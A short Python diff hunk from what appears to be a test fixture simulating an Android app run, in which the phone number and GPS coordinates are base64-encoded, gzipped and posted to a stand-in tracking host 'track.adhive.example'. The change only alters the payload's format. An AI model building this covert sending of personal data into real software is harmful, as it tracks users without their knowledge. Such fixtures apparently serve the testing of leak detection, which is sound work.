@@ -287,7 +287,7 @@ def lantern() -> Run:
         result=Value(type="android.location.Location", fields={
             "latitude": Value(type="double", text=str(lat)), "longitude": Value(type="double", text=str(lon))}),
     )  # fmt: skip
-    inner = base64.b64encode(f"tel={line1}&lat={lat}&lon={lon}&v=3".encode()).decode()
+    inner = base64.b64encode(f"{line1}|{lat},{lon}|3".encode()).decode()
     form = f"sid=88a1&payload={quote(inner, safe='')}&ts=1763900004"
     i = run.send("track.adhive.example", "/c", gzip.compress(form.encode(), mtime=0),
                  "application/x-www-form-urlencoded", 4910)  # fmt: skip
